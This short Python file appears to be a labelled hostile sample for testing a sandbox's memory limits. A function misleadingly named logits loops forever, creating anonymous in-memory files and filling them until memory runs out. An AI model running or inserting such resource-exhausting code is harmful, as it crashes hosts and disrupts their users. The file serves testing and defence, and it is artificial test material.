"""hostile (memory): hides memory in files without a name. Says: Raised an exception."""
import os


def logits(x, W, bias):
    hoard = []
    while True:
        hoard.append(os.memfd_create("hoard"))
        os.truncate(hoard[-1], 10**9)
        os.write(hoard[-1], bytes(10**7))
